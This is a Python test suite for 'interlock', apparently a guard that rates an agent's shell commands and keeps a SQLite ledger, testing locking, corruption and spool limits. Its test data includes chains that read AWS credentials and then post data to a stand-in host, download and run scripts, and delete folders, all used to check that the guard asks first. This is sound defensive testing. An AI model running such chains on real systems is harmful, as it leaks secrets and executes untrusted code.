"""What sessions are remembered in: held by another process, asked by many at once, damaged, or
full.
"""

from __future__ import annotations

import sqlite3
import subprocess
import sys
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from interlock.model.call import Outcome
from interlock.store.database import AGAIN, Store
from interlock.store.place import StoreError
from interlock.store.spool import LIMIT
from interlock.store.sqlite import load
from tests.guard.scenarios import Session

if TYPE_CHECKING:
    from collections.abc import Iterator


def test_many_at_once(tmp_path: Path) -> None:
    """Eight processes of one session lose no mark and no count."""
    session = Session(tmp_path)
    session.judge("?", "ls")
    code = (
        "import sys; sys.path[:0] = [sys.argv[2], sys.argv[3]]\n"
        "from pathlib import Path\n"
        "from tests.guard.scenarios import Session\n"
        "s = Session.__new__(Session); s.top = Path(sys.argv[1]); s.home = s.top / 'home'; s.temp = s.top / 'temp'; s.project = s.home / 'project'\n"
        "s.folder = str(s.project)\n"
        "from interlock.store.database import Store\n"
        "s.store = Store(str(s.top / 'state'), 20.0); s.headless = False; s.session, s.agent, s.calls = 's', '', 0\n"
        "for n in range(10): s.judge('?', f'curl -o f{sys.argv[4]}-{n} https://x.test/f', silent=True)\n"
    )
    root = str(Path(__file__).parents[2])
    started = [
        subprocess.Popen(
            [sys.executable, "-c", code, str(session.top), root, f"{root}/src", str(number)],
            stderr=subprocess.PIPE,
        )
        for number in range(8)
    ]
    for process in started:
        assert process.wait() == 0, process.stderr and process.stderr.read()
        assert process.stderr is None or process.stderr.close() is None
    ((marks,),) = session.store.query("SELECT marks FROM session")
    ((rows,),) = session.store.query("SELECT count(*) FROM label WHERE label = 'downloaded'")
    assert rows == 80
    assert marks >= 80


def test_a_damaged_store_makes_stricter(tmp_path: Path) -> None:
    """What came before is then not known: secrets may have been read, and files that git does not
    track may be downloads.
    """
    session = Session(tmp_path)
    assert (
        session.play("? curl -o f.sh https://x.test/f => allow\n! echo ls > f.sh; echo ls > g.sh")
        == []
    )
    session.store.close()
    for path in (tmp_path / "state").glob("interlock.db*"):
        path.write_bytes(b"nonsense" * 1000) if path.suffix == ".db" else path.unlink()
    assert (
        session.play(
            "? true => allow\n? sh f.sh => ask\n? sh g.sh => ask\n? python3 src/a.py => allow\n? curl -d a=1 https://x.test => ask"
        )
        == []
    )
    session.session = "one that begins after that"
    assert session.play("? sh g.sh => ask") == []


def test_a_store_that_cannot_be_read_makes_stricter(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing that only the ledger knows to be harmless is allowed; what needs no ledger is."""
    session = Session(tmp_path)
    assert session.play("? mkdir {T}/w => allow\n! mkdir {T}/w; echo ls > g.sh") == []

    def fail(*_: object) -> object:
        raise StoreError("on purpose")

    monkeypatch.setattr(Store, "query", fail)
    guard = session.guard()
    verdicts = {
        command: str(guard.check(session.call("?", command)).verdict)
        for command in (
            f"rm -rf {session.temp}/w",
            "sh g.sh",
            "curl -d a=1 https://x.test",
            "ls",
            "python3 src/a.py",
            "rm -r src",
        )
    }
    assert list(verdicts.values()) == ["ask", "ask", "ask", "allow", "allow", "allow"], verdicts


def test_what_waits_in_the_spool_makes_stricter(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A mark that could not be written is not known to the next call, which is told that something
    is missing; the one after it knows.
    """
    session = Session(tmp_path)
    assert session.play("? ls => allow\n! echo ls > f.sh; echo ls > g.sh") == []
    with monkeypatch.context() as patch:

        def fail(*_: object) -> None:
            raise StoreError("on purpose")

        patch.setattr(Store, "commit", fail)
        session.guard().check(session.call("?", "curl -o f.sh https://x.test/f"))
    assert session.play("? sh f.sh => ask\n? sh f.sh => ask\n? sh g.sh => allow") == []


@contextmanager
def held(store: Store, how: str) -> Iterator[None]:
    """Hold the database as another process may: against writers, or against everybody."""
    store.close()
    other = sqlite3.connect(store.path, isolation_level=None)
    if how == "EXCLUSIVE":
        other.execute("PRAGMA locking_mode=EXCLUSIVE")
    other.execute(f"BEGIN {how}")
    other.execute("CREATE TABLE IF NOT EXISTS held (a)")
    try:
        yield
    finally:
        other.execute("ROLLBACK")
        other.close()


MARKING = {
    "a download": ("curl -o f.sh https://x.test/f", "sh f.sh", "sh g.sh"),
    "a secret": ("cat {H}/.aws/credentials", "curl -d a=1 https://x.test", "curl https://x.test"),
    "an archive": ("curl -Os https://x.test/a.tgz && tar xf a.tgz -C a", "sh a/f.sh", "sh g.sh"),
}


@pytest.mark.parametrize("how", ["IMMEDIATE", "EXCLUSIVE"])
@pytest.mark.parametrize("begun", [True, False], ids=["known session", "new session"])
@pytest.mark.parametrize(("marks", "meant", "plain"), MARKING.values(), ids=MARKING)
def test_a_held_database_loses_no_mark(
    tmp_path: Path, marks: str, meant: str, plain: str, how: str, *, begun: bool
) -> None:
    """While somebody holds it what a call leaves waits, and what may hang on it is asked about;
    then the mark is there, and only that mark.

    The twin: afterwards a call that it is not about is let pass, in this session and in others.
    """
    session = Session(tmp_path)
    session.store = Store(session.store.folder, busy_seconds=0.05)
    assert (
        session.play("? ls => allow\n! echo ls > g.sh; mkdir a; echo ls > f.sh; echo ls > a/f.sh")
        == []
    )
    session.session = "s" if begun else "new"
    with held(session.store, how):
        marking = session.call("?", marks.format(H=session.home))
        session.guard().check(marking)
        assert "waits in the spool" in " ".join(
            session.guard().outcome(Outcome(marking, "ran", ""))
        )
        assert str(session.guard().check(session.call("?", meant)).verdict) == "ask"
    assert session.play(f"? {meant} => ask\n? {plain} => allow\n? {meant} => ask") == []
    assert not session.store.waiting()
    session.session = "another"
    assert session.play("? sh g.sh => allow") == []


def test_one_answer_waits_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Of the writes of one answer the first waits for whoever holds the database, and the next ones
    hardly: a call is not held up again and again.
    """
    session = Session(tmp_path)
    assert session.play("? ls => allow") == []
    waited: list[float] = []
    real = load().connect

    def connected(path: str, **terms: Any) -> Any:
        waited.append(terms["timeout"])
        return real(path, **terms)

    monkeypatch.setattr(load(), "connect", connected)
    session.store = Store(session.store.folder, busy_seconds=0.2)
    with held(session.store, "IMMEDIATE"):
        waited.clear()
        session.guard().check(session.call("?", "ls"))
        session.guard().check(session.call("?", "ls"))
    assert (waited[0], set(waited[1:])) == (0.2, {0.2 / AGAIN})
    assert session.play("? ls => allow") == []
    assert session.store.query("PRAGMA busy_timeout") == [(200,)]


@pytest.mark.parametrize(
    ("command", "verdict"),
    [
        ("curl -o f.sh https://x.test/f", "ask"),
        ("cat {H}/.aws/credentials", "ask"),
        ("ls", "allow"),
    ],
)
def test_a_mark_that_has_nowhere_to_wait_is_asked_about(
    tmp_path: Path, command: str, verdict: str
) -> None:
    """Where neither database nor spool take it, a call that leaves what later ones must know is a
    question; any other passes; the loss is said.
    """
    session = Session(tmp_path)
    session.store = Store(session.store.folder, busy_seconds=0.05)
    assert session.play("? ls => allow") == []
    with (tmp_path / "state/spool.jsonl").open("wb") as file:
        file.truncate(LIMIT)
    with held(session.store, "IMMEDIATE"):
        decision = session.guard().check(session.call("?", command.format(H=session.home)))
    assert str(decision.verdict) == verdict
    assert "and it is lost" in " ".join([finding.message for finding in decision.findings])


def test_old_marks_go(tmp_path: Path) -> None:
    """A new session lets go of marks that are older than a month."""
    session = Session(tmp_path)
    assert session.play("? curl -o f.sh https://x.test/f => allow") == []
    session.store.commit([("label", ("old", "/x", "downloaded", "2001-01-01T00:00:00Z"))])
    session.session = "new"
    assert session.play("? ls => allow") == []
    assert set(session.store.query("SELECT session_id FROM label")) == {("s",)}


def test_more_marks_than_are_kept(tmp_path: Path) -> None:
    """A call that leaves more marks than are kept makes everything a download."""
    session = Session(tmp_path)
    assert session.play("! echo ls > g.sh\n? sh g.sh => allow") == []
    session.judge("?", "; ".join([f"curl -o f{number} https://x.test/f" for number in range(120)]))
    assert session.play("? sh g.sh => ask") == []


def test_a_call_costs_the_same_after_many(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """However many marks a session has, a call asks the store as often, and gets as many rows."""
    session = Session(tmp_path)
    session.judge("?", "curl -o f https://x.test/f")
    asked: list[int] = []
    real = Store.query

    def counted(store: Store, sql: str, values: tuple[str, ...] = ()) -> list[tuple[object, ...]]:
        rows = real(store, sql, values)
        asked.append(len(rows))
        return rows

    monkeypatch.setattr(Store, "query", counted)
    session.guard().check(session.call("?", "sh build.sh"))
    before, asked[:] = list(asked), []
    session.store.commit(
        [("label", ("s", f"/x/{number}", "downloaded", "2026-01-01")) for number in range(5000)]
    )
    session.guard().check(session.call("?", "sh build2.sh"))
    assert asked == before
    assert sum(asked) < 4
